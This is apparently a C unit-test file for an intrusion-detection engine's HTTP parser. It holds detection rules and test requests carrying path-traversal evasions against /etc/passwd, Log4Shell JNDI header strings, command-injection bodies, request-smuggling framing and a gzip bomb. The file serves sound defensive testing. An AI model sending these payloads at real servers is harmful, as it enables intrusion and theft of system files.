/* HTTP/1.x buffers: each buffer, framing, limits, anomalies, an evasion suite
 * and a benign suite, every case at every chunk size with identical events. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <zlib.h>

#include "testutil.h"

static const char *rules =
    "format: 1\n"
    "rules:\n"
    "  - {id: 1, name: traversal, severity: high, match: [{content: /etc/passwd, buffer: http.uri}]}\n"
    "  - {id: 2, name: jndi header, severity: critical, match: [{content: \"${jndi:\", nocase: true, buffer: http.header}]}\n"
    "  - {id: 3, name: method, severity: low, match: [{content: PUT, buffer: http.method, depth: 3}]}\n"
    "  - {id: 4, name: raw uri, severity: low, match: [{content: \"%2e%2e\", buffer: http.uri.raw}]}\n"
    "  - {id: 5, name: request line, severity: low, match: [{content: \"HTTP/1.0\", buffer: http.request_line}]}\n"
    "  - {id: 6, name: raw header, severity: low, match: [{content: \"X-Fold:\\r\\n \", buffer: http.header.raw}]}\n"
    "  - {id: 7, name: host, severity: low, match: [{content: evil.example, buffer: http.host}]}\n"
    "  - {id: 8, name: agent, severity: low, match: [{content: sqlmap, nocase: true, buffer: http.user_agent}]}\n"
    "  - {id: 9, name: cookie, severity: low, match: [{content: \"admin=1\", buffer: http.cookie}]}\n"
    "  - {id: 10, name: ctype, severity: low, direction: any, match: [{content: \"%{\", buffer: http.content_type}]}\n"
    "  - {id: 11, name: req body, severity: high, match: [{content: \"cmd=\", buffer: http.request_body}, {content: \"whoami\", buffer: http.request_body, distance: 0}]}\n"
    "  - {id: 12, name: stat, severity: low, direction: to_client, match: [{content: \"500\", buffer: http.stat_code}]}\n"
    "  - {id: 13, name: resp body, severity: high, direction: to_client, match: [{content: \"root:x:0:0\", buffer: http.response_body}]}\n"
    "  - {id: 14, name: double enc, severity: low, action: detect, direction: any, match: [{anomaly: http.uri.double_encoding}]}\n"
    "  - {id: 15, name: te cl, severity: medium, direction: any, match: [{anomaly: http.header.te_cl_conflict}]}\n"
    "  - {id: 16, name: no host header, severity: low, match: [{content: GET, buffer: http.method}, {content: \"Host:\", buffer: http.header, negate: true}]}\n"
    "  - {id: 17, name: raw stream, severity: low, direction: any, match: [{content: RAWMARK}]}\n"
    "  - {id: 18, name: uri and body, severity: high, match: [{content: /upload, buffer: http.uri}, {content: \"<?php\", buffer: http.request_body}]}\n"
    "  - {id: 19, name: header limit, severity: low, direction: any, match: [{anomaly: http.header.limit}]}\n"
    "  - {id: 20, name: decompress limit, severity: low, direction: any, match: [{anomaly: http.body.decompression_limit}]}\n"
    "  - {id: 21, name: mixed, severity: low, match: [{content: RAWX}, {content: /mix, buffer: http.uri}]}\n"
    "  - {id: 22, name: mixed2, severity: low, match: [{content: RAWY}, {content: /p, buffer: http.uri}, {content: Z-Key, buffer: http.header}]}\n"
    "  - {id: 30, name: uri endswith, severity: low, match: [{content: .jsp, buffer: http.uri, endswith: true}]}\n"
    "  - {id: 31, name: long uri, severity: low, match: [{content: /longuri, buffer: http.uri, depth: 8}, {isdataat: 40, buffer: http.uri}]}\n"
    "  - {id: 32, name: body tail, severity: low, match: [{content: BODYX, buffer: http.request_body}, {isdataat: 3, relative: true, negate: true, buffer: http.request_body}]}\n"
    "  - {id: 33, name: last header, severity: low, match: [{content: \"X-End: zz\\r\\n\", buffer: http.header, endswith: true}]}\n"
    "  - {id: 34, name: header names, severity: low, direction: any, match: [{content: \"\\r\\nX-Probe\\r\\nAccept\\r\\n\", buffer: http.header_names}, {content: \"\\r\\nReferer\\r\\n\", buffer: http.header_names, negate: true}]}\n";

static vpt_engine eng;

static void setup(void)
{
    vp_engine_options_t *o;
    ck_assert_int_eq(vp_engine_options_create(&o), VP_OK);
    /* small limits so the limit cases stay small */
    ck_assert_int_eq(vp_engine_options_set_http_limits(o, 512, 4096, 65536), VP_OK);
    uint32_t ids[22];
    for (uint32_t i = 0; i < 22; i++)
        ids[i] = i + 1;
    ck_assert_int_eq(vp_engine_options_enable(o, ids, 22), VP_OK);
    vpt_build(rules, 0, o, &eng);
    vp_engine_options_free(o);
}

static void teardown(void)
{
    vpt_free(&eng);
}

/* Scans at every chunk size; the events must be the same each time.
 * Returns the event set (whole-stream run) in *out. */
static void scan_all(const void *data, size_t len, vp_direction dir, vpt_events *out)
{
    vpt_events first;
    for (size_t k = 0; k < vpt_n_chunk_sizes; k++) {
        vpt_events ev;
        vpt_scan(&eng, 8080, dir, data, len, vpt_chunk_sizes[k], &ev);
        if (k == 0) {
            first = ev;
            continue;
        }
        ck_assert_msg(ev.n == first.n, "chunk %zu: %zu events, whole: %zu", vpt_chunk_sizes[k],
                      ev.n, first.n);
        for (size_t i = 0; i < ev.n; i++) {
            int found = 0;
            for (size_t j = 0; j < first.n && !found; j++)
                found = ev.ev[i].rule_id == first.ev[j].rule_id &&
                        ev.ev[i].offset == first.ev[j].offset;
            ck_assert_msg(found, "chunk %zu: rule %u at %llu not in the whole-stream events",
                          vpt_chunk_sizes[k], ev.ev[i].rule_id,
                          (unsigned long long)ev.ev[i].offset);
        }
    }
    *out = first;
}

static unsigned count_of(const vpt_events *ev, uint32_t id)
{
    unsigned n = 0;
    for (size_t i = 0; i < ev->n; i++)
        n += ev->ev[i].rule_id == id;
    return n;
}

/* The exact multiset of rule ids expected (0-terminated list). */
static void expect_ids(const char *what, const vpt_events *ev, const uint32_t *ids)
{
    size_t n = 0;
    for (; ids[n]; n++)
        ck_assert_msg(count_of(ev, ids[n]) >= 1, "%s: rule %u did not fire", what, ids[n]);
    ck_assert_msg(ev->n == n, "%s: %zu events, expected %zu", what, ev->n, n);
}

typedef struct http_case {
    const char *what;
    const char *data;
    vp_direction dir;
    uint32_t ids[8];
} http_case;

static const http_case cases[] = {
    /* each buffer, positive */
    {"uri", "GET /x/../etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n", VP_DIR_TO_SERVER, {1}},
    {"header", "GET / HTTP/1.1\r\nHost: a\r\nX-Api: ${JNDI:ldap://e/a}\r\n\r\n", VP_DIR_TO_SERVER, {2}},
    {"method", "PUT /f HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\n\r\n", VP_DIR_TO_SERVER, {3}},
    {"uri.raw", "GET /%2e%2e/x HTTP/1.1\r\nHost: a\r\n\r\n", VP_DIR_TO_SERVER, {4}},
    {"request_line", "GET / HTTP/1.0\r\nHost: a\r\n\r\n", VP_DIR_TO_SERVER, {5}},
    {"header.raw", "GET / HTTP/1.1\r\nHost: a\r\nX-Fold:\r\n folded\r\n\r\n", VP_DIR_TO_SERVER, {6}},
    {"host", "GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n", VP_DIR_TO_SERVER, {7}},
    {"user_agent", "GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: SQLMap/1.5\r\n\r\n", VP_DIR_TO_SERVER, {8}},
    {"cookie", "GET / HTTP/1.1\r\nHost: a\r\nCookie: a=b; admin=1\r\n\r\n", VP_DIR_TO_SERVER, {9}},
    {"content_type", "POST / HTTP/1.1\r\nHost: a\r\nContent-Type: %{(#x)}\r\nContent-Length: 0\r\n\r\n", VP_DIR_TO_SERVER, {10}},
    {"content_type response", "HTTP/1.1 200 OK\r\nContent-Type: %{x}\r\nContent-Length: 0\r\n\r\n", VP_DIR_TO_CLIENT, {10}},
    {"request_body", "POST /a HTTP/1.1\r\nHost: a\r\nContent-Length: 13\r\n\r\ncmd=x;whoami!", VP_DIR_TO_SERVER, {11}},
    {"stat_code", "HTTP/1.1 500 Error\r\nContent-Length: 0\r\n\r\n", VP_DIR_TO_CLIENT, {12}},
    {"response_body", "HTTP/1.1 200 OK\r\nContent-Length: 20\r\n\r\nroot:x:0:0:root:/ro", VP_DIR_TO_CLIENT, {13}},
    /* each buffer, negative (the string is elsewhere) */
    {"uri neg", "GET / HTTP/1.1\r\nHost: a\r\nX-Path: /etc/passwd\r\n\r\n", VP_DIR_TO_SERVER, {0}},
    {"header neg", "GET /${jndi:x} HTTP/1.1\r\nHost: a\r\n\r\n", VP_DIR_TO_SERVER, {0}},
    {"method neg", "GET /PUT HTTP/1.1\r\nHost: a\r\n\r\n", VP_DIR_TO_SERVER, {0}},
    {"host neg", "GET /evil.example HTTP/1.1\r\nHost: a\r\n\r\n", VP_DIR_TO_SERVER, {0}},
    {"cookie neg", "GET /?admin=1 HTTP/1.1\r\nHost: a\r\n\r\n", VP_DIR_TO_SERVER, {0}},
    {"request_body neg", "POST /cmd=whoami HTTP/1.1\r\nHost: a\r\nContent-Length: 2\r\n\r\nok", VP_DIR_TO_SERVER, {0}},
    {"stat_code neg", "HTTP/1.1 200 OK\r\nX: 500\r\nContent-Length: 3\r\n\r\n500", VP_DIR_TO_CLIENT, {0}},
    {"response_body neg", "HTTP/1.1 200 OK\r\nX: root:x:0:0\r\nContent-Length: 2\r\n\r\nok", VP_DIR_TO_CLIENT, {0}},
    /* negation inside a buffer */
    {"no host header", "GET / HTTP/1.1\r\nAccept: */*\r\n\r\n", VP_DIR_TO_SERVER, {16}},
    /* framing */
    {"chunked body", "POST /a HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n4;ext=1\r\ncmd=\r\n6\r\nwhoami\r\n0\r\nX-Trailer: t\r\n\r\n", VP_DIR_TO_SERVER, {11}},
    {"te+cl conflict: chunked wins", "POST /a HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n4\r\ncmd=\r\n6\r\nwhoami\r\n0\r\n\r\n", VP_DIR_TO_SERVER, {11, 15}},
    {"pipelining: once per transaction", "GET /etc/passwd HTTP/1.1\r\nHost: a\r\n\r\nGET /etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n", VP_DIR_TO_SERVER, {1, 1}},
    {"keep-alive body then request", "POST /x HTTP/1.1\r\nHost: a\r\nContent-Length: 11\r\n\r\n/etc/passwdGET /etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n", VP_DIR_TO_SERVER, {1}},
    {"1xx then response", "HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 500 Error\r\nContent-Length: 10\r\n\r\nroot:x:0:0", VP_DIR_TO_CLIENT, {12, 13}},
    {"response until close", "HTTP/1.0 200 OK\r\n\r\nhello root:x:0:0 world", VP_DIR_TO_CLIENT, {13}},
    {"uri and body in one message", "POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 9\r\n\r\n<?php x()", VP_DIR_TO_SERVER, {18}},
    {"uri and body in two messages", "POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 2\r\n\r\nokPOST /x HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n\r\n<?php", VP_DIR_TO_SERVER, {0}},
    /* isdataat and endswith: the end is the end of the buffer in that message */
    {"uri endswith", "GET /a/b.jsp HTTP/1.1\r\nHost: a\r\n\r\n", VP_DIR_TO_SERVER, {30}},
    {"uri endswith: query after", "GET /a/b.jsp?x=1 HTTP/1.1\r\nHost: a\r\n\r\n", VP_DIR_TO_SERVER, {0}},
    {"uri endswith: normalized", "GET /a/b.js%70 HTTP/1.1\r\nHost: a\r\n\r\n", VP_DIR_TO_SERVER, {30}},
    {"uri longer than 40", "GET /longuri/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa HTTP/1.1\r\nHost: a\r\n\r\n", VP_DIR_TO_SERVER, {31}},
    {"uri of 40 bytes", "GET /longuri/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa HTTP/1.1\r\nHost: a\r\n\r\n", VP_DIR_TO_SERVER, {0}},
    {"body tail", "POST /a HTTP/1.1\r\nHost: a\r\nContent-Length: 11\r\n\r\nxxxBODYXabc", VP_DIR_TO_SERVER, {32}},
    {"body tail too long", "POST /a HTTP/1.1\r\nHost: a\r\nContent-Length: 12\r\n\r\nxxxBODYXabcd", VP_DIR_TO_SERVER, {0}},
    {"body tail, next request follows", "POST /a HTTP/1.1\r\nHost: a\r\nContent-Length: 8\r\n\r\nBODYXabcGET / HTTP/1.1\r\nHost: a\r\n\r\n", VP_DIR_TO_SERVER, {32}},
    {"body tail, chunked", "POST /a HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nBOD\r\n3\r\nYXa\r\n0\r\n\r\n", VP_DIR_TO_SERVER, {32}},
    {"last header", "GET / HTTP/1.1\r\nHost: a\r\nX-End: zz\r\n\r\n", VP_DIR_TO_SERVER, {33}},
    {"last header: another follows", "GET / HTTP/1.1\r\nX-End: zz\r\nHost: a\r\n\r\n", VP_DIR_TO_SERVER, {0}},
    {"header names", "GET / HTTP/1.1\r\nHost: a\r\nX-Probe: 1\r\nAccept: */*\r\n\r\n", VP_DIR_TO_SERVER, {34}},
    {"header names: the value does not count", "GET / HTTP/1.1\r\nHost: a\r\nX-Probe: Accept\r\n\r\n", VP_DIR_TO_SERVER, {0}},
    {"header names: Referer present", "GET / HTTP/1.1\r\nX-Probe: 1\r\nAccept: */*\r\nReferer: x\r\n\r\n", VP_DIR_TO_SERVER, {16}},
    {"header names: bare LF and folding", "GET / HTTP/1.1\nHost: a\nX-Probe: 1\n more\nAccept: */*\n\n", VP_DIR_TO_SERVER, {34}},
    {"header names in a response", "HTTP/1.1 200 OK\r\nX-Probe: 1\r\nAccept: x\r\nContent-Length: 0\r\n\r\n", VP_DIR_TO_CLIENT, {34}},
    {"bare LF lines", "GET /etc/passwd HTTP/1.1\nHost: evil.example\n\n", VP_DIR_TO_SERVER, {1, 7}},
    /* fallback: raw rules keep working */
    {"not HTTP", "\x16\x03\x01 RAWMARK /etc/passwd", VP_DIR_TO_SERVER, {17}},
    {"malformed second message", "GET / HTTP/1.1\r\nHost: a\r\n\r\n\x01\x02 RAWMARK GET /etc/passwd HTTP/1.1\r\n\r\n", VP_DIR_TO_SERVER, {17}},
    {"raw and http rules together", "GET /etc/passwd?RAWMARK HTTP/1.1\r\nHost: a\r\n\r\n", VP_DIR_TO_SERVER, {1, 17}},
    {"bad chunk size: framing lost", "POST /a HTTP/1.1\r\nTransfer-Encoding: chunked\r\nHost: a\r\n\r\nzz\r\nRAWMARK cmd=whoami", VP_DIR_TO_SERVER, {17}},
    /* regressions found by review */
    {"chunked state is reset between messages", "POST /a HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0;x\r\n\r\nPOST /b HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nA\r\ncmd=whoami\r\n0\r\n\r\n", VP_DIR_TO_SERVER, {11}},
    {"stream part after the http part, same offset at any chunking", "GET /mix HTTP/1.1\r\nHost: a\r\nX: RAWX\r\n\r\n", VP_DIR_TO_SERVER, {21}},
    {"stream part before the http part", "GET /mix?RAWX HTTP/1.1\r\nHost: a\r\n\r\n", VP_DIR_TO_SERVER, {21}},
    /* messages 1 and 2 each hold with the stream part (once the stream has
     * it); message 3 lacks Z-Key and must not fire */
    {"pending cleared when the rule fires", "GET /p HTTP/1.1\r\nZ-Key: 1\r\n\r\nGET /p HTTP/1.1\r\nZ-Key: RAWY\r\n\r\nGET /p HTTP/1.1\r\nHost: a\r\n\r\n", VP_DIR_TO_SERVER, {22, 22, 16, 16}},
    {"a huge normalized header is not cut", NULL, VP_DIR_TO_SERVER, {2, 16}},
    /* limits */
    /* the Host header lies beyond the limit: unseen, so "no Host" holds too */
    {"header limit", NULL, VP_DIR_TO_SERVER, {19, 16}},
};

START_TEST(test_case)
{
    const http_case *c = &cases[_i];
    char big[2048];
    const char *data = c->data;
    if (!data && strncmp(c->what, "a huge", 6) == 0) {
        /* "a:b\n" lines grow to "a: b\r\n" when normalized: 120 of them fit
         * the 512-byte raw limit but not a buffer of the raw size */
        int n = snprintf(big, sizeof(big), "GET / HTTP/1.1\n");
        for (int i = 0; i < 110; i++)
            n += snprintf(big + n, sizeof(big) - (size_t)n, "a:b\n");
        snprintf(big + n, sizeof(big) - (size_t)n, "x:${jndi:\n\n");
        data = big;
    } else if (!data) { /* a header block over the 512-byte limit, Host at its end */
        int n = snprintf(big, sizeof(big), "GET / HTTP/1.1\r\nX-Pad: ");
        memset(big + n, 'p', 900);
        snprintf(big + n + 900, sizeof(big) - (size_t)n - 900, "\r\nHost: evil.example\r\n\r\n");
        data = big;
    }
    vpt_events ev;
    scan_all(data, strlen(data), c->dir, &ev);
    expect_ids(c->what, &ev, c->ids);
}
END_TEST

/* One exploit, each obfuscation: a single http.uri / http.header rule must see
 * them all, at every chunking. */
static const char *const uri_evasions[] = {
    "/etc/passwd",
    "/etc/./passwd",
    "//etc//passwd",
    "/x/../etc/passwd",
    "/x/y/../../etc/passwd",
    "/../../../../etc/passwd",
    "/%65tc/%70asswd",
    "/%2Fetc%2Fpasswd",
    "/etc%2fpasswd",
    "\\etc\\passwd",
    "/etc%5cpasswd",
    "/%u0065tc/passwd",
    "/x/%2e%2e/etc/passwd",
    "/x/%c0%ae%c0%ae/etc/passwd",
    "/etc/pass%00wd",
    "/x/.%2e/etc/passwd",
    "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd",
    "http://host/etc/passwd",
    "/etc/passwd?x=1",
};

START_TEST(test_uri_evasion)
{
    char req[512];
    snprintf(req, sizeof(req), "GET %s HTTP/1.1\r\nHost: a\r\n\r\n", uri_evasions[_i]);
    vpt_events ev;
    scan_all(req, strlen(req), VP_DIR_TO_SERVER, &ev);
    ck_assert_msg(count_of(&ev, 1) == 1, "%s: traversal rule fired %u times", uri_evasions[_i],
                  count_of(&ev, 1));
}
END_TEST

static const char *const header_evasions[] = {
    "X-Api-Version: ${jndi:ldap://e/a}\r\n",
    "x-api-version:${JNDI:ldap://e/a}\r\n",
    "User-Agent: Mozilla ${jNdI:ldap://e/a}\r\n",
    "X-Folded: start\r\n ${jndi:ldap://e/a}\r\n",
    "Referer:\t\t${jndi:rmi://e/a}\r\n",
    "Authorization: Bearer ${jndi:dns://e/a}\r\n",
};

START_TEST(test_header_evasion)
{
    char req[512];
    snprintf(req, sizeof(req), "GET / HTTP/1.1\r\nHost: a\r\n%s\r\n", header_evasions[_i]);
    vpt_events ev;
    scan_all(req, strlen(req), VP_DIR_TO_SERVER, &ev);
    ck_assert_msg(count_of(&ev, 2) == 1, "%s", header_evasions[_i]);
}
END_TEST

static const char *const benign[] = {
    "GET / HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n",
    "GET /images/logo.png?v=3 HTTP/1.1\r\nHost: a\r\nCookie: session=abc; theme=dark\r\n\r\n",
    "POST /api/items HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 17\r\n\r\n{\"name\":\"widget\"}",
    "GET /docs/passwd-policy.html HTTP/1.1\r\nHost: a\r\n\r\n",
    "HEAD /index.html HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /search?q=etc+passwd HTTP/1.1\r\nHost: a\r\n\r\n",
    "OPTIONS * HTTP/1.1\r\nHost: a\r\n\r\n",
};

START_TEST(test_benign)
{
    vpt_events ev;
    scan_all(benign[_i], strlen(benign[_i]), VP_DIR_TO_SERVER, &ev);
    ck_assert_msg(ev.n == 0, "benign %d: rule %u fired", _i, ev.n ? ev.ev[0].rule_id : 0);
}
END_TEST

static size_t gzip_bytes(const char *text, uint8_t *out, size_t cap, int raw_deflate)
{
    z_stream z;
    memset(&z, 0, sizeof(z));
    ck_assert_int_eq(deflateInit2(&z, 6, Z_DEFLATED, raw_deflate ? -15 : 15 + 16, 8,
                                  Z_DEFAULT_STRATEGY), Z_OK);
    z.next_in = (Bytef *)text;
    z.avail_in = (uInt)strlen(text);
    z.next_out = out;
    z.avail_out = (uInt)cap;
    ck_assert_int_eq(deflate(&z, Z_FINISH), Z_STREAM_END);
    size_t n = cap - z.avail_out;
    deflateEnd(&z);
    return n;
}

START_TEST(test_compressed_bodies)
{
    const char *encodings[] = {"gzip", "deflate"};
    for (int e = 0; e < 2; e++) {
        uint8_t body[512];
        size_t blen = gzip_bytes("padding padding root:x:0:0:root:/root:/bin/bash padding", body,
                                 sizeof(body), e == 1);
        uint8_t msg[1024];
        int h = snprintf((char *)msg, sizeof(msg),
                         "HTTP/1.1 200 OK\r\nContent-Encoding: %s\r\nContent-Length: %zu\r\n\r\n",
                         encodings[e], blen);
        memcpy(msg + h, body, blen);
        vpt_events ev;
        scan_all(msg, (size_t)h + blen, VP_DIR_TO_CLIENT, &ev);
        ck_assert_msg(count_of(&ev, 13) == 1, "%s body not decoded", encodings[e]);
    }
    /* A decompression bomb is cut off and reported, never a stall. */
    static char zeros[70000];
    memset(zeros, 'A', sizeof(zeros) - 1);
    static uint8_t bomb[4096];
    size_t blen = gzip_bytes(zeros, bomb, sizeof(bomb), 0);
    static uint8_t msg[8192];
    int h = snprintf((char *)msg, sizeof(msg),
                     "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: %zu\r\n\r\n",
                     blen);
    memcpy(msg + h, bomb, blen);
    /* inspect deep bodies, inflate at most 64 KiB */
    vp_engine_options_t *o;
    ck_assert_int_eq(vp_engine_options_create(&o), VP_OK);
    ck_assert_int_eq(vp_engine_options_set_http_limits(o, 0, 1u << 20, 65536), VP_OK);
    uint32_t id = 20;
    ck_assert_int_eq(vp_engine_options_enable(o, &id, 1), VP_OK);
    vpt_engine deep;
    vpt_build(rules, 0, o, &deep);
    vp_engine_options_free(o);
    vpt_events ev;
    vpt_scan(&deep, 80, VP_DIR_TO_CLIENT, msg, (size_t)h + blen, 0, &ev);
    ck_assert_uint_eq(count_of(&ev, 20), 1);
    vpt_free(&deep);
}
END_TEST

START_TEST(test_offsets_and_stats)
{
    /* uri events count at the end of the request line, body events at their byte */
    const char *req = "POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 9\r\n\r\n<?php x()";
    vpt_events ev;
    scan_all(req, strlen(req), VP_DIR_TO_SERVER, &ev);
    ck_assert_int_eq(vpt_offset_of(&ev, 18), (int64_t)(strstr(req, "<?php") - req) + 5);
    const char *r1 = "GET /etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n";
    scan_all(r1, strlen(r1), VP_DIR_TO_SERVER, &ev);
    ck_assert_int_eq(vpt_offset_of(&ev, 1), (int64_t)(strstr(r1, "\r\n") - r1) + 2);

    vp_stream_t *s;
    ck_assert_int_eq(vp_stream_open(eng.engine, VP_PROTO_TCP, 80, VP_DIR_TO_SERVER, NULL, NULL, &s),
                     VP_OK);
    const char *two = "GET / HTTP/1.1\r\nHost: a\r\n\r\nGET /%252e HTTP/1.1\r\nHost: a\r\n\r\n";
    ck_assert_int_eq(vp_stream_scan(s, two, strlen(two), eng.scratch), VP_OK);
    vp_stream_stats_t st = {.size = sizeof(st)};
    ck_assert_int_eq(vp_stream_stats(s, &st), VP_OK);
    ck_assert_int_eq(st.http, 1);
    ck_assert_uint_eq(st.http_messages, 2);
    ck_assert_uint_ge(st.http_anomalies, 1);
    ck_assert_uint_gt(st.http_bytes, 1024);
    ck_assert_uint_eq(st.bytes, strlen(two));
    vp_stream_free(s);
    ck_assert_int_eq(vp_engine_options_set_http_limits(NULL, 0, 0, 0), VP_E_INVALID);
}
END_TEST

static void collect(const vp_event_t *e, void *ctx)
{
    vpt_events *ev = ctx;
    if (ev->n < VPT_MAX_EVENTS)
        ev->ev[ev->n++] = *e;
}

/* With the directions linked, a response to HEAD has no body even when it
 * announces a length, so the next response is parsed as one. */
START_TEST(test_head_with_link)
{
    for (int linked = 0; linked < 2; linked++) {
        vp_stream_t *req, *resp;
        vpt_events ev;
        memset(&ev, 0, sizeof(ev));
        ck_assert_int_eq(vp_stream_open(eng.engine, VP_PROTO_TCP, 80, VP_DIR_TO_SERVER, NULL,
                                        NULL, &req), VP_OK);
        ck_assert_int_eq(vp_stream_open(eng.engine, VP_PROTO_TCP, 80, VP_DIR_TO_CLIENT, collect,
                                        &ev, &resp), VP_OK);
        if (linked) {
            ck_assert_int_eq(vp_stream_link(resp, req), VP_E_INVALID);
            ck_assert_int_eq(vp_stream_link(req, resp), VP_OK);
        }
        const char *q = "HEAD / HTTP/1.1\r\nHost: a\r\n\r\nGET / HTTP/1.1\r\nHost: a\r\n\r\n";
        const char *a = "HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\n"
                        "HTTP/1.1 500 Err\r\nContent-Length: 0\r\n\r\n";
        ck_assert_int_eq(vp_stream_scan(req, q, strlen(q), eng.scratch), VP_OK);
        ck_assert_int_eq(vp_stream_scan(resp, a, strlen(a), eng.scratch), VP_OK);
        vp_stream_stats_t st = {.size = sizeof(st)};
        ck_assert_int_eq(vp_stream_stats(resp, &st), VP_OK);
        ck_assert_uint_eq(st.http_messages, linked ? 2 : 1);
        ck_assert_uint_eq(count_of(&ev, 12), linked ? 1 : 0);
        vp_stream_free(req);
        ck_assert_int_eq(vp_stream_close(resp, eng.scratch), VP_OK);
        vp_stream_free(resp);
    }
    /* An interim 100 Continue answers no request of its own (regression: it
     * took the POST's place, so the HEAD answer was read with a body). */
    vp_stream_t *req, *resp;
    vpt_events ev;
    memset(&ev, 0, sizeof(ev));
    ck_assert_int_eq(vp_stream_open(eng.engine, VP_PROTO_TCP, 80, VP_DIR_TO_SERVER, NULL, NULL,
                                    &req), VP_OK);
    ck_assert_int_eq(vp_stream_open(eng.engine, VP_PROTO_TCP, 80, VP_DIR_TO_CLIENT, collect, &ev,
                                    &resp), VP_OK);
    ck_assert_int_eq(vp_stream_link(req, resp), VP_OK);
    const char *q = "POST /a HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\n\r\n"
                    "HEAD / HTTP/1.1\r\nHost: a\r\n\r\n";
    const char *a = "HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"
                    "HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\n"
                    "HTTP/1.1 500 Err\r\nContent-Length: 0\r\n\r\n";
    ck_assert_int_eq(vp_stream_scan(req, q, strlen(q), eng.scratch), VP_OK);
    ck_assert_int_eq(vp_stream_scan(resp, a, strlen(a), eng.scratch), VP_OK);
    ck_assert_uint_eq(count_of(&ev, 12), 1);
    {
        vp_stream_free(req); /* unlinks: resp goes on alone */
        ck_assert_int_eq(vp_stream_close(resp, eng.scratch), VP_OK);
        vp_stream_free(resp);
    }
}
END_TEST

/* A gap ends HTTP parsing even before the first byte (regression found by
 * fuzz_diff: an empty scan before the gap changed the result). */
START_TEST(test_gap_first_stops_http)
{
    vpt_events a, b;
    vpt_scan_with_gaps(&eng, "~GET /etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n", 7, 0, &a);
    ck_assert_uint_eq(count_of(&a, 1), 0);
    vp_stream_t *s;
    memset(&b, 0, sizeof(b));
    ck_assert_int_eq(vp_stream_open(eng.engine, VP_PROTO_TCP, 80, VP_DIR_TO_SERVER, collect, &b,
                                    &s), VP_OK);
    ck_assert_int_eq(vp_stream_scan(s, "", 0, eng.scratch), VP_OK);
    ck_assert_int_eq(vp_stream_gap(s, 7, eng.scratch), VP_OK);
    const char *q = "GET /etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n";
    ck_assert_int_eq(vp_stream_scan(s, q, strlen(q), eng.scratch), VP_OK);
    ck_assert_int_eq(vp_stream_close(s, eng.scratch), VP_OK);
    vp_stream_free(s);
    ck_assert_uint_eq(count_of(&b, 1), 0);
}
END_TEST

int main(void)
{
    Suite *s = suite_create("http");
    TCase *tc = tcase_create("http");
    tcase_set_timeout(tc, 240);
    tcase_add_checked_fixture(tc, setup, teardown);
    tcase_add_loop_test(tc, test_case, 0, (int)(sizeof(cases) / sizeof(cases[0])));
    tcase_add_loop_test(tc, test_uri_evasion, 0, (int)(sizeof(uri_evasions) / sizeof(uri_evasions[0])));
    tcase_add_loop_test(tc, test_header_evasion, 0,
                        (int)(sizeof(header_evasions) / sizeof(header_evasions[0])));
    tcase_add_loop_test(tc, test_benign, 0, (int)(sizeof(benign) / sizeof(benign[0])));
    tcase_add_test(tc, test_compressed_bodies);
    tcase_add_test(tc, test_offsets_and_stats);
    tcase_add_test(tc, test_head_with_link);
    tcase_add_test(tc, test_gap_first_stops_http);
    suite_add_tcase(s, tc);
    return vp_test_run_suite(s);
}
